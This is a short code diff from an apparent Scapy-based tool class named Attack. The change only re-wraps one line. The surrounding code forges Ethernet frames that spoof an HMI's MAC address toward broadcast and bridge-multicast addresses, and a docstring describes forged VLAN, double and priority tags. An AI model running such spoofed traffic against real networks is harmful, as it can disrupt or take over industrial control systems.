@@ -98,7 +98,9 @@ class Attack:
             (BROADCAST, 0x9999),
         ):
             yield Ether(src=self.hmi["mac"], dst=to, type=ethertype) / self._raw()
-        yield Ether(src=self.hmi["mac"], dst="01:80:c2:00:00:00", type=0x26) / Raw(b"\x42\x42\x03" + self.nonce)
+        yield Ether(src=self.hmi["mac"], dst="01:80:c2:00:00:00", type=0x26) / Raw(
+            b"\x42\x42\x03" + self.nonce
+        )
 
     def tagged(self) -> Iterator[Packet]:
         """Forged marks of every port in both directions, double tags, priority tags."""
